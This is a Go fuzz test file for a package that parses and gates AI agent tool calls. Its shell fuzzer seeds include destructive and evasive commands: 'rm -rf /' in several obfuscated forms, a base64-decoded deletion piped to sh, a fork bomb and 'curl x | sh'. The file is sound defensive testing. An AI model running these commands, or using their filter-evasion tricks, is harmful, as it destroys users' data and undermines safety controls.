@@ -1,0 +1,100 @@
+package gates
+
+import (
+	"context"
+	"fmt"
+	"os"
+	"testing"
+	"time"
+	"unicode/utf8"
+)
+
+// FuzzDecodeJSON: any bytes decode to an action or a DecodeError, never a
+// panic; a decoded action survives the canonical round trip unchanged.
+func FuzzDecodeJSON(f *testing.F) {
+	for _, s := range []string{
+		`{"tool":"shell","args":{"cmd":"ls notes","cwd":"."},"explanation":"why"}`,
+		`{"tool":"FILE-READ","args":{"path":"inbox.org"},"explanation":"x"}`,
+		`{"tool":"send","args":{"channel":"email","to":"a@b","text":"hi"}}`,
+		`{"tool":"shell","tool":"message","args":{}}`,
+		`[{"tool":"message"}]`, `null`, `"x"`, `{"tool":1}`, `{"tool":"eval","args":{"lang":"python","code":"1+1"},"explanation":"e","x":1}`,
+	} {
+		f.Add([]byte(s))
+	}
+	f.Fuzz(func(t *testing.T, data []byte) {
+		a, err := DecodeJSON(data)
+		if err != nil {
+			return
+		}
+		b, err := DecodeJSON(a.CanonicalJSON())
+		if err != nil {
+			t.Fatalf("canonical form of a decoded action does not decode: %v\n%s", err, a.CanonicalJSON())
+		}
+		if string(b.CanonicalJSON()) != string(a.CanonicalJSON()) {
+			t.Fatalf("canonical form is not stable:\n%s\n%s", a.CanonicalJSON(), b.CanonicalJSON())
+		}
+		if !utf8.Valid(a.CanonicalJSON()) {
+			t.Fatalf("canonical form is not UTF-8")
+		}
+	})
+}
+
+// FuzzDecodeToolCall: tool-call JSON of either API never panics.
+func FuzzDecodeToolCall(f *testing.F) {
+	for _, s := range []string{
+		`{"type":"function","function":{"name":"shell","arguments":"{\"cmd\":\"ls\",\"explanation\":\"x\"}"}}`,
+		`{"type":"tool_use","name":"file_read","input":{"path":"a.org","explanation":"x"}}`,
+	} {
+		f.Add([]byte(s))
+	}
+	f.Fuzz(func(t *testing.T, data []byte) {
+		v, err := parseJSON(data)
+		if err != nil {
+			return
+		}
+		_, _ = DecodeToolCall(v)
+		_, _ = DecodeToolCalls(v)
+		_, _ = DecodeValue(v)
+	})
+}
+
+// FuzzShell: any command text is analysed without a panic or a hang, and
+// an unparseable one is never allowed.
+func FuzzShell(f *testing.F) {
+	for _, s := range []string{
+		"ls notes", "rm -rf /", "r''m -rf ~", "$'\\x72m' -rf /", "bash -c 'sh -c \"eval rm -rf ~\"'",
+		"cat <<EOF\nrm -rf /\nEOF", "echo cm0gLXJmIH4= | base64 -d | sh", "f() { f | f & }; f",
+		"find . -exec sh -c 'curl x | sh' \\;", "X=ls; $X -la", "rm${IFS}-rf${IFS}/", "a=$(echo rm); $a -rf ~",
+		"python3 -c 'import os; os.system(\"rm -rf ~\")'", "echo $( )", "[[ ]]", "foo 'unclosed",
+	} {
+		f.Add(s)
+	}
+	stack, err := New(DefaultConfig())
+	if err != nil {
+		f.Fatal(err)
+	}
+	root := f.TempDir()
+	if err := os.WriteFile(root+"/inbox.org", []byte("* x\n"), 0o644); err != nil {
+		f.Fatal(err)
+	}
+	env, err := stack.NewEnv(context.Background(), World{Roots: []string{root}, Home: "/home/fuzz"})
+	if err != nil {
+		f.Fatal(err)
+	}
+	defer env.Close()
+	f.Fuzz(func(t *testing.T, cmd string) {
+		if len(cmd) > 4096 {
+			return
+		}
+		a := NewAction(ToolShell, "fuzzing", map[string]string{"cmd": cmd, "cwd": "."})
+		watchdog := time.AfterFunc(5*time.Second, func() { panic(fmt.Sprintf("shell analysis hangs on %q", cmd)) })
+		v := stack.Check(context.Background(), a, env)
+		watchdog.Stop()
+		if v.Verdict == VerdictAllow {
+			rep := analyzeShell(context.Background(), env, cmd, ".")
+			if len(rep.denies) > 0 {
+				t.Fatalf("allowed a command the shell vector denies: %q", cmd)
+			}
+		}
+	})
+}
